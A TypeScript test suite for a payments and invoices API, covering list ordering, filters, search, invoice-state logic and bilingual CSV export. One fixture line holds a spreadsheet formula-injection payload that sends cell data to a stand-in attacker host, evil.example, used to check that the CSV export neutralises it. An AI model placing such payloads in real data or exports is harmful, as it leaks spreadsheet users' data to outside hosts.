import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INVOICE_STATES, type TInvoiceListItem, type TPage, type TPaymentListItem, paymentsApi } from '@app/shared';
import type { TApp } from '../../app-type.js';
import { rowsOf } from '../../db/sql-helpers.js';
import { invoices } from '../../db/schema/index.js';
import { adminHeaders, arabic, createClient, createTestApp, staffHeaders } from '../../test/test-app.js';
import { addWorker, orderAt } from '../../test/orders.js';
import { paymentsCsv } from './lists-csv.js';
import { invoiceStateSql } from './lists.js';
import { invoiceState } from './presenter.js';
import { financeOf, MAIN_TOTAL_AED, pay, postRefund, staffAct } from './test-support.js';
import { call } from '../../test/call.js';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

describe('payments: the /Payments and /Invoices lists and their CSV', () => {
  let app: TApp;
  let admin: Record<string, string>;
  let accounts: Record<string, string>;
  /** The orders of the fixture, by the state their fee invoice ends in. */
  const orders: Record<string, { id: number; number: string; invoiceId: number; invoiceNumber: string; clientId: number }> = {};
  let creditNotes: { refunded: number; refundDue: number };

  /** A new client's approved order, its fee invoice issued at `issuedAt`. */
  async function approved(key: string, userName: string, issuedAt: string) {
    const client = await createClient(app, { userName });
    const order = await orderAt(app, admin, client, await addWorker(app, admin), 'Approved');
    const [invoice] = await app.db
      .update(invoices)
      .set({ issuedAt: new Date(issuedAt) })
      .where(eq(invoices.orderId, order.id))
      .returning();
    const made = { id: order.id, number: order.number, invoiceId: invoice!.id, invoiceNumber: invoice!.number, clientId: client.id };
    orders[key] = made;
    return made;
  }

  const refund = async (creditNoteId: number, body: { receivedOn: string; reference?: string; amountAed?: number }) => {
    const response = await postRefund(app, accounts, creditNoteId, { method: 'cheque', ...body });
    if (response.status !== 201) throw new Error(response.response.body);
  };

  beforeAll(async () => {
    app = await createTestApp({ RATE_LIMIT_MAX: '100000' });
    admin = await adminHeaders(app);
    accounts = await staffHeaders(app, 'accounts');

    // Issued 2 March 2026 at 00:30 in the UAE (1 March in UTC): paid in two parts, one reference a formula.
    const paid = await approved('paid', 'noura.haddad', '2026-03-01T20:30:00Z');
    await pay(app, accounts, paid.invoiceId, 5000, { receivedOn: '2026-03-05' });
    await pay(app, accounts, paid.invoiceId, 8125, { method: 'bankTransfer', reference: FORMULA, receivedOn: '2026-03-07' });
    const partly = await approved('partlyPaid', 'salem.k', '2026-04-10T08:00:00Z');
    await pay(app, accounts, partly.invoiceId, 1000, { method: 'card', reference: 'POS-4411', receivedOn: '2026-04-11' });
    await approved('unpaid', 'hind.q', '2026-05-01T08:00:00Z');
    const voided = await approved('void', 'maha.r', '2026-05-02T08:00:00Z');
    await staffAct(app, accounts, voided, { action: 'cancel' });

    // Two paid hires canceled: each invoice reversed by a credit note; one refunded in full, one still to refund.
    for (const key of ['refunded', 'refundDue'] as const) {
      const order = await approved(`${key}Order`, `${key.toLowerCase()}.client`, '2026-06-01T08:00:00Z');
      await pay(app, accounts, order.invoiceId, MAIN_TOTAL_AED, { method: 'cheque', reference: `CHQ-${key}`, receivedOn: '2026-06-02' });
      await staffAct(app, accounts, order, { action: 'confirmPayment' });
      await staffAct(app, accounts, order, { action: 'cancel' });
    }
    const creditNoteOf = async (key: string) => (await financeOf(app, admin, orders[key]!.id)).invoices.find((document) => document.kind === 'creditNote')!.id;
    creditNotes = { refunded: await creditNoteOf('refundedOrder'), refundDue: await creditNoteOf('refundDueOrder') };
    await refund(creditNotes.refunded, { receivedOn: '2026-06-20', reference: 'RF-1' });
  });
  afterAll(async () => app.close());

  /** A query with the longest page unless it names its own. */
  const paged = (query: string) => {
    const params = new URLSearchParams(query);
    if (!params.has('pageSize')) params.set('pageSize', '100');
    return params.toString();
  };
  const payments = async (query: string, headers = accounts): Promise<TPage<TPaymentListItem>> => {
    const response = await call(app, paymentsApi.payments, { query: new URLSearchParams(paged(query)), headers });
    expect(response.status, response.response.body).toBe(200);
    return response.data;
  };
  const invoiceList = async (query: string): Promise<TPage<TInvoiceListItem>> => {
    const response = await call(app, paymentsApi.invoices, { query: new URLSearchParams(paged(query)), headers: accounts });
    expect(response.status, response.response.body).toBe(200);
    return response.data;
  };

  it('lists the ledger newest first (day received, then id), each entry with its invoice, order, client and recorder', async () => {
    const all = await payments('');
    expect(all.totalCount).toBe(6);
    const days = all.items.map((item) => item.receivedOn);
    expect(days).toEqual([...days].sort().reverse());
    const sameDay = all.items.filter((item) => item.receivedOn === '2026-06-02').map((item) => item.id);
    expect(sameDay).toEqual([...sameDay].sort((a, b) => b - a));
    expect(all.items.find((item) => item.reference === 'POS-4411')).toEqual({
      id: expect.any(Number),
      invoiceId: orders.partlyPaid!.invoiceId,
      invoiceNumber: orders.partlyPaid!.invoiceNumber,
      kind: 'payment',
      amountAed: 1000,
      method: 'card',
      reference: 'POS-4411',
      receivedOn: '2026-04-11',
      documentNumber: expect.stringMatching(/^RCT-\d{4}-\d{6}$/),
      creditNoteNumber: null,
      hasAttachment: false,
      note: '',
      recordedBy: 'staff.accounts',
      recordedAt: expect.any(String),
      orderId: orders.partlyPaid!.id,
      orderNumber: orders.partlyPaid!.number,
      client: { id: orders.partlyPaid!.clientId, userName: 'salem.k' },
    });
    const refundItem = all.items.find((item) => item.kind === 'refund')!;
    expect(refundItem).toMatchObject({
      amountAed: -MAIN_TOTAL_AED,
      creditNoteNumber: expect.stringMatching(/^CN-/),
      documentNumber: expect.stringMatching(/^RFD-/),
    });

    const page = await payments('pageSize=3&pageNumber=2');
    expect(page).toMatchObject({ totalCount: 6, pageNumber: 2, pageSize: 3 });
    expect(page.items.map((item) => item.id)).toEqual(all.items.slice(3).map((item) => item.id));
    const pastTheEnd = await call(app, paymentsApi.payments, { query: { pageSize: 3, pageNumber: 9 }, headers: accounts });
    expect(pastTheEnd.data).toMatchObject({ items: [], totalCount: 6 });
  });

  it("each of the ledger's filters returns only the rows that match", async () => {
    const all = (await payments('')).items;
    const check = async (query: string, matches: (item: TPaymentListItem) => boolean) => {
      const found = await payments(query);
      const expected = all.filter(matches);
      expect(expected.length, query).toBeGreaterThan(0);
      expect(expected.length, query).toBeLessThan(all.length);
      expect(
        found.items.map((item) => item.id),
        query,
      ).toEqual(expected.map((item) => item.id));
      expect(found.totalCount).toBe(expected.length);
    };
    await check('kind=refund', (item) => item.kind === 'refund');
    await check('kind=payment', (item) => item.kind === 'payment');
    await check('method=cheque', (item) => item.method === 'cheque');
    await check('method=bankTransfer', (item) => item.method === 'bankTransfer');
    await check('from=2026-03-07', (item) => item.receivedOn >= '2026-03-07');
    await check('to=2026-03-07', (item) => item.receivedOn <= '2026-03-07');
    await check('from=2026-04-01&to=2026-06-02', (item) => item.receivedOn >= '2026-04-01' && item.receivedOn <= '2026-06-02');
    await check('kind=payment&method=cheque', (item) => item.kind === 'payment' && item.method === 'cheque');
    // Search: the receipt's number, the invoice's, the order's, or the client's name, in any case.
    const receipt = all.find((item) => item.reference === 'POS-4411')!.documentNumber;
    await check(`search=${receipt.toLowerCase()}`, (item) => item.documentNumber === receipt);
    await check(`search=${orders.paid!.invoiceNumber}`, (item) => item.invoiceNumber === orders.paid!.invoiceNumber);
    await check(`search=${orders.refundedOrder!.number}`, (item) => item.orderNumber === orders.refundedOrder!.number);
    await check('search=NOURA', (item) => item.client.userName === 'noura.haddad');
    // A % or _ is a character, not a wildcard.
    expect((await payments('search=%25')).totalCount).toBe(0);
    expect((await payments('search=salem_k')).totalCount).toBe(0);
    expect((await payments('from=2026-07-01')).items).toEqual([]);
  });

  it('lists invoices and credit notes newest first, each as the order finance presents it', async () => {
    const all = await invoiceList('');
    // Six invoices, and the credit notes of the three orders canceled after their invoice.
    expect(all.totalCount).toBe(9);
    const issued = all.items.map((item) => item.issuedAt);
    expect(issued).toEqual([...issued].sort().reverse());
    for (const key of ['paid', 'refundedOrder']) {
      const finance = await financeOf(app, admin, orders[key]!.id);
      for (const document of finance.invoices) {
        const { entries: _entries, seller: _seller, buyer: _buyer, ...figures } = document;
        expect(all.items.find((item) => item.id === document.id)).toEqual({
          ...figures,
          orderId: orders[key]!.id,
          orderNumber: orders[key]!.number,
          package: 'Main',
          client: { id: orders[key]!.clientId, userName: expect.any(String) },
        });
      }
    }
    expect(Object.fromEntries(all.items.filter((item) => item.kind === 'invoice').map((item) => [item.orderNumber, item.state]))).toEqual(
      Object.fromEntries(
        Object.entries({
          paid: 'paid',
          partlyPaid: 'partlyPaid',
          unpaid: 'unpaid',
          void: 'credited',
          refundedOrder: 'credited',
          refundDueOrder: 'credited',
        }).map(([key, state]) => [orders[key]!.number, state]),
      ),
    );
    expect(all.items.find((item) => item.id === creditNotes.refundDue)).toMatchObject({ kind: 'creditNote', state: 'refundDue', balanceAed: MAIN_TOTAL_AED });
    expect(all.items.find((item) => item.id === creditNotes.refunded)).toMatchObject({ kind: 'creditNote', state: 'refunded', settledAed: MAIN_TOTAL_AED });
  });

  it("each of the invoices' filters returns only the rows that match; every state's filter finds exactly the rows shown in it", async () => {
    const all = (await invoiceList('')).items;
    const check = async (query: string, matches: (item: TInvoiceListItem) => boolean) => {
      const found = await invoiceList(query);
      const expected = all.filter(matches);
      expect(expected.length, query).toBeGreaterThan(0);
      expect(
        found.items.map((item) => item.id),
        query,
      ).toEqual(expected.map((item) => item.id));
      expect(found.totalCount).toBe(expected.length);
    };
    for (const state of INVOICE_STATES) await check(`state=${state}`, (item) => item.state === state);
    await check('kind=creditNote', (item) => item.kind === 'creditNote');
    await check('kind=invoice&state=credited', (item) => item.kind === 'invoice' && item.state === 'credited');
    await check('kind=creditNote&state=credited', (item) => item.kind === 'creditNote' && item.state === 'credited');
    await check(`clientId=${orders.partlyPaid!.clientId}`, (item) => item.client.id === orders.partlyPaid!.clientId);
    // UAE days: issued at 00:30 on 2 March in the UAE, which is still 1 March in UTC.
    await check('from=2026-03-02&to=2026-03-02', (item) => item.orderId === orders.paid!.id);
    expect((await invoiceList('to=2026-03-01')).totalCount).toBe(0);
    // The canceled order's credit note is dated the day of the cancel, not its invoice's.
    await check('from=2026-05-01&to=2026-05-02', (item) => [orders.unpaid!.id, orders.void!.id].includes(item.orderId) && item.kind === 'invoice');
    await check(`search=${orders.unpaid!.invoiceNumber}`, (item) => item.number === orders.unpaid!.invoiceNumber);
    await check(`search=${orders.refundDueOrder!.number}`, (item) => item.orderId === orders.refundDueOrder!.id);
    await check('search=Hind', (item) => item.client.userName === 'hind.q');
    await check('search=CN-', (item) => item.kind === 'creditNote');
  });

  it("the state filter's SQL and the presenter's invoiceState agree on every kind, credit, refund owed and settled amount", async () => {
    const cases: Array<[kind: 'invoice' | 'creditNote', total: number, settled: number, credited: number, refund: number | null]> = [];
    for (const kind of ['invoice', 'creditNote'] as const) {
      for (const refund of [null, 0, 400, 1000]) {
        for (const credited of [0, 400, 1000]) {
          for (const settled of [-100, 0, 1, 400, 599, 600, 999, 1000]) cases.push([kind, 1000, settled, credited, refund]);
        }
      }
    }
    const values = sql.join(
      cases.map(
        ([kind, total, settled, credited, refund], index) =>
          sql`(${index}::int, ${kind}::text, ${total}::int, ${settled}::int, ${credited}::int, ${refund}::int)`,
      ),
      sql`, `,
    );
    const state = invoiceStateSql(sql`c.kind`, sql`c.total`, sql`c.settled`, sql`c.credited`, sql`c.refund`);
    const result = await app.db.execute(
      sql`SELECT c.i, ${state} AS state FROM (VALUES ${values}) AS c(i, kind, total, settled, credited, refund) ORDER BY c.i`,
    );
    const fromSql = rowsOf<{ state: string }>(result).map((row) => row.state);
    expect(fromSql).toEqual(cases.map(([kind, total, settled, credited, refund]) => invoiceState(kind, total, settled, credited, refund)));
    expect(new Set(fromSql)).toEqual(new Set(INVOICE_STATES));
  });

  it('exports the ledger as CSV: BOM, headers in the reader language, amounts as numbers, a formula neutralised, the filters applied', async () => {
    const response = await call(app, paymentsApi.paymentsCsv, { headers: accounts });
    expect(response.status).toBe(200);
    expect(response.response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.response.headers['content-disposition']).toBe('attachment; filename="payments.csv"');
    expect(response.response.headers['cache-control']).toBe('no-store');
    const body = response.response.rawPayload.toString('utf8');
    expect(body.startsWith('\uFEFF"Date (UAE)","Receipt or voucher","Kind","Amount (AED)"')).toBe(true);
    const lines = body.slice(1).trimEnd().split('\r\n');
    expect(lines).toHaveLength(7);
    // Newest first: the refund of 20 June, its amount negative and still a number.
    expect(lines[1]).toMatch(/^"2026-06-20","RFD-\d{4}-\d{6}","Refund",-13125\.00,"Cheque","RF-1",/);
    const formulaLine = lines.find((line) => line.includes('HYPERLINK'))!;
    expect(formulaLine).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(formulaLine).toMatch(/,8125\.00,"Bank transfer",/);

    const arabicCsv = (
      await call(app, paymentsApi.paymentsCsv, { query: { kind: 'refund' }, headers: { ...accounts, ...arabic } })
    ).response.rawPayload.toString('utf8');
    const [header, ...rows] = arabicCsv.slice(1).trimEnd().split('\r\n');
    expect(arabicCsv.startsWith('\uFEFF"التاريخ (بتوقيت الإمارات)","الإيصال أو السند","النوع","المبلغ (درهم)"')).toBe(true);
    expect(header).not.toMatch(/[A-Za-z]/);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toContain('"استرداد"');
    expect(rows[0]).toContain('"شيك"');
  });

  it('exports invoices and credit notes as CSV with the same filters, the line and the state in the reader language', async () => {
    const response = await call(app, paymentsApi.invoicesCsv, { query: { kind: 'invoice', state: 'credited' }, headers: { ...accounts, ...arabic } });
    expect(response.status).toBe(200);
    expect(response.response.headers['content-disposition']).toBe('attachment; filename="invoices.csv"');
    expect(response.response.headers['cache-control']).toBe('no-store');
    const body = response.response.rawPayload.toString('utf8');
    expect(body.startsWith('\uFEFF"الرقم","المستند","تاريخ الإصدار (بتوقيت الإمارات)"')).toBe(true);
    const rows = body.slice(1).trimEnd().split('\r\n').slice(1);
    expect(rows).toHaveLength(3);
    for (const row of rows) {
      expect(row).toMatch(/^"INV-\d{4}-\d{6}","فاتورة ضريبية",/);
      expect(row).toMatch(/[\u0600-\u06FF]+.*\(.+\)"/);
    }
    // Paid, refunded, credited, still due, refund day, state: an unpaid invoice credited, and a paid one credited and refunded.
    const rowOf = (key: string) => rows.find((row) => row.startsWith(`"${orders[key]!.invoiceNumber}"`))!;
    expect(rowOf('void')).toMatch(/,12500\.00,625\.00,13125\.00,0\.00,0\.00,13125\.00,0\.00,"","مُعاكَسة بإشعار دائن"$/);
    expect(rowOf('refundedOrder')).toMatch(/,13125\.00,13125\.00,13125\.00,13125\.00,0\.00,"","مُعاكَسة بإشعار دائن"$/);
    const search = `search=${orders.paid!.invoiceNumber}`;
    const english = (await call(app, paymentsApi.invoicesCsv, { query: new URLSearchParams(search), headers: accounts })).response.rawPayload.toString('utf8');
    const { description } = (await invoiceList(search)).items[0]!;
    expect(description).toMatch(/^Main package: Maria Santos \(SK-\d+\)$/);
    expect(english.slice(1).trimEnd().split('\r\n')[1]).toBe(
      `"${orders.paid!.invoiceNumber}","Tax invoice","2026-03-02","","${orders.paid!.number}","noura.haddad","${description}",12500.00,625.00,13125.00,13125.00,0.00,0.00,0.00,"","Paid"`,
    );
  });

  it('streams the export in batches: every row once, in the list order, whatever the batch size', async () => {
    const listed = (await payments('')).items.map((item) => item.documentNumber);
    for (const batchSize of [1, 2, 7, 100]) {
      const chunks: string[] = [];
      for await (const chunk of paymentsCsv(app.db, {}, 'en', batchSize)) chunks.push(String(chunk));
      const numbers = chunks
        .join('')
        .slice(1)
        .trimEnd()
        .split('\r\n')
        .slice(1)
        .map((line) => line.split(',')[1]!.replace(/"/g, ''));
      expect(numbers, `batch ${batchSize}`).toEqual(listed);
    }
  });
});
